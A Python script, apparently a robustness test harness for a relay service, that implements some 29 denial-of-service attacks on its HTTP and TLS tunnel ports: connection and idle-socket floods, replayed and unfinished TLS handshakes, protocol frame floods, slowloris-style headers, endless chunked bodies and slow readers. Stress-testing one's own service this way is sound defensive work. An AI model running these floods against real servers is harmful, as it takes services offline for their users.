"""One attack by a stranger on the network, as fast as one core makes it: python only, no rights, no
token. `stranger.py ATTACK ADDRESS MCP_PORT TUNNEL_PORT SECONDS` prints how many rounds it made. It
has one address of the relay's network, or many where an attack says so.
"""
import random
import signal
import socket
import ssl
import struct
import sys
import time
from collections import deque

LINGER = struct.pack("ii", 1, 0)  # close by reset, so that ports are free at once


RELAY = "127.0.0.1"
ENDED = []


def address():
    """Any address of the relay's network but its own."""
    first = "127" if RELAY.startswith("127.") else "198.%d" % random.randrange(18, 20)
    more = [random.randrange(1, 255) for _ in range(4 - len(first.split(".")))]
    return ".".join([first] + [str(number) for number in more])


def own():
    return "127.0.0.2" if RELAY.startswith("127.") else "198.18.7.7"


def dial(port, source=None):
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
    made.settimeout(0.5)
    made.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    made.bind((source or own(), 0))
    made.connect((RELAY, port))
    return made


def offer(made, data):
    """Sends what the socket takes at once; false when the peer has closed it."""
    made.setblocking(False)
    try:
        made.send(data)
    except BlockingIOError:
        pass
    except OSError:
        return False
    return True


class Kept:
    """At most `limit` open sockets; the oldest is closed for a new one."""

    def __init__(self, limit):
        self.limit, self.all = limit, deque()

    def add(self, made):
        self.all.append(made)
        if len(self.all) > self.limit:
            self.all.popleft().close()


def rounds(attack):
    """Runs `attack` again and again; errors of the network are the relay's defence, and no rounds."""
    def run(ports, end):
        count = 0
        step = attack(*ports)
        while time.monotonic() < end and not ENDED:
            try:
                next(step)
                count += 1
            except OSError:
                step = attack(*ports)
        return count
    return run


HELLO = None


def client_hello():
    """The first flight of a real handshake, to be sent again and again."""
    global HELLO
    if HELLO is None:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["homeline/1"])
        out = ssl.MemoryBIO()
        made = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="relay")
        try:
            made.do_handshake()
        except ssl.SSLWantReadError:
            pass
        HELLO = out.read()
    return HELLO


def shaken(port, source=None):
    """A connection whose handshake is complete."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["homeline/1"])
    return context.wrap_socket(dial(port, source), server_hostname="relay")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def post(length, more=b""):
    return (b"POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n" % RELAY.encode()
            + more + b"Content-Length: %d\r\n\r\n" % length)


@rounds
def connects_tunnel(mcp, tunnel):
    while True:
        dial(tunnel).close()
        yield


@rounds
def connects_mcp(mcp, tunnel):
    while True:
        dial(mcp).close()
        yield


@rounds
def connects_many_addresses(mcp, tunnel):
    while True:
        dial(tunnel, address()).close()
        yield


@rounds
def idle_tunnel(mcp, tunnel):
    """Silent sockets from many addresses."""
    kept = Kept(3000)
    while True:
        kept.add(dial(tunnel, address()))
        yield


@rounds
def idle_mcp(mcp, tunnel):
    kept = Kept(3000)
    while True:
        kept.add(dial(mcp, address()))
        yield


@rounds
def hellos(mcp, tunnel):
    """A recorded ClientHello costs its sender nothing, and the relay a signature."""
    kept = Kept(50)
    while True:
        made = dial(tunnel)
        offer(made, client_hello())
        kept.add(made)
        yield


@rounds
def hellos_many_addresses(mcp, tunnel):
    kept = Kept(50)
    while True:
        made = dial(tunnel, address())
        offer(made, client_hello())
        kept.add(made)
        yield


@rounds
def handshakes(mcp, tunnel):
    """Whole handshakes, then silence."""
    kept = Kept(1000)
    while True:
        kept.add(shaken(tunnel))
        yield


@rounds
def garbage(mcp, tunnel):
    while True:
        made = dial(tunnel)
        offer(made, random.randbytes(16384))
        made.close()
        yield


@rounds
def long_hellos(mcp, tunnel):
    """A TLS record of 16 KiB that never ends, one byte after the other."""
    kept = Kept(400)
    while True:
        made = dial(tunnel, address())
        offer(made, b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc" + bytes(8000))
        kept.add(made)
        if len(kept.all) > 300:
            offer(random.choice(kept.all), b"\0")
        yield


def frames(payload):
    """After the handshake, before any hello."""
    @rounds
    def attack(mcp, tunnel):
        while True:
            made = shaken(tunnel)
            made.settimeout(0.3)
            made.sendall(frame(4, 0, 0))
            try:
                while True:
                    made.sendall(payload)
                    yield
            except (OSError, ssl.SSLError):
                made.close()
                yield
    return attack


@rounds
def replies(mcp, tunnel):
    """A hello's reply without an end."""
    while True:
        made = shaken(tunnel)
        made.settimeout(0.3)
        made.sendall(frame(4, 0, 0) + frame(1, 4, 1, b"\x88"))
        try:
            while True:
                made.sendall(frame(0, 0, 1, bytes(16384)))
                yield
        except (OSError, ssl.SSLError):
            made.close()
            yield


@rounds
def heads(mcp, tunnel):
    """Whole heads of the largest size, one after the other."""
    more = b"".join(b"X-%d: %s\r\n" % (i, b"a" * 180) for i in range(60))
    while True:
        made = dial(mcp)
        made.sendall(post(0, more))
        made.close()
        yield


@rounds
def slow_heads(mcp, tunnel):
    kept = Kept(3000)
    while True:
        made = dial(mcp, address())
        offer(made, b"POST /mcp HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 7000)
        kept.add(made)
        offer(random.choice(kept.all), b"b")
        yield


@rounds
def endless_heads(mcp, tunnel):
    while True:
        made = dial(mcp)
        try:
            made.sendall(b"POST /mcp HTTP/1.1\r\n")
            while True:
                made.sendall(b"X-A: " + b"a" * 4000 + b"\r\n")
                yield
        except OSError:
            made.close()
            yield


@rounds
def bodies(mcp, tunnel):
    """Bodies of 4 MiB that stop short of their end."""
    kept = Kept(600)
    body = bytes(1 << 20)
    while True:
        made = dial(mcp, address())
        offer(made, post(4 << 20) + body)
        kept.add(made)
        offer(random.choice(kept.all), body)
        yield


@rounds
def chunks(mcp, tunnel):
    """A chunked body without an end, of one byte a chunk."""
    head = (b"POST /mcp HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" % RELAY.encode())
    while True:
        made = dial(mcp)
        made.sendall(head)
        try:
            while True:
                made.sendall(b"1\r\na\r\n" * 500)
                yield
        except OSError:
            made.close()
            yield


def pipelined(request):
    """Requests on one connection as fast as answers are read."""
    @rounds
    def attack(mcp, tunnel):
        while True:
            made = dial(mcp)
            data = request()
            try:
                while True:
                    made.sendall(data)
                    if not made.recv(65536):
                        break
                    yield
            except OSError:
                pass
            made.close()
            yield
    return attack


@rounds
def slow_readers(mcp, tunnel):
    """Requests without end, and no answer is read."""
    kept = Kept(500)
    request = post(2) + b"{}"
    while True:
        made = dial(mcp, address())
        offer(made, request * 200)
        kept.add(made)
        offer(random.choice(kept.all), request * 50)
        yield


ATTACKS = {
    "connects, tunnel": connects_tunnel,
    "connects, mcp": connects_mcp,
    "connects, many addresses": connects_many_addresses,
    "idle sockets, tunnel": idle_tunnel,
    "idle sockets, mcp": idle_mcp,
    "client hellos": hellos,
    "client hellos, many addresses": hellos_many_addresses,
    "TLS handshakes": handshakes,
    "garbage": garbage,
    "unfinished hellos": long_hellos,
    "frames: PING": frames(frame(6, 0, 0, bytes(8)) * 200),
    "frames: SETTINGS": frames(frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 200),
    "frames: WINDOW_UPDATE": frames(frame(8, 0, 0, struct.pack(">I", 1)) * 200),
    "frames: RST_STREAM": frames(frame(3, 0, 1, struct.pack(">I", 8)) * 200),
    "frames: PRIORITY": frames(frame(2, 0, 1, struct.pack(">IB", 3, 1)) * 200),
    "frames: CONTINUATION": frames(frame(1, 0, 1, b"\x88") + frame(9, 0, 1, b"\x00\x01a\x01b") * 200),
    "frames: unknown": frames(frame(0xbe, 0, 0, bytes(100)) * 200),
    "frames: empty DATA": frames(frame(0, 0, 1) * 200),
    "replies without end": replies,
    "heads": heads,
    "slow heads": slow_heads,
    "endless heads": endless_heads,
    "bodies": bodies,
    "chunks": chunks,
    "requests without a token": pipelined(lambda: post(2) + b"{}"),
    "requests with a wrong token": pipelined(
        lambda: post(2, b"Authorization: Bearer hlt_" + b"a" * 43 + b"\r\n") + b"{}"),
    "requests pipelined": pipelined(lambda: (post(2) + b"{}") * 50),
    "other paths": pipelined(lambda: b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n" * 50),
    "slow readers": slow_readers,
}

if __name__ == "__main__":
    if sys.argv[1:] == ["--list"]:
        print("\n".join(ATTACKS))
        sys.exit()
    name, RELAY, ports, seconds = *sys.argv[1:3], tuple(map(int, sys.argv[3:5])), float(sys.argv[5])
    signal.signal(signal.SIGTERM, lambda *_: ENDED.append(True))
    print(ATTACKS[name](ports, time.monotonic() + seconds))
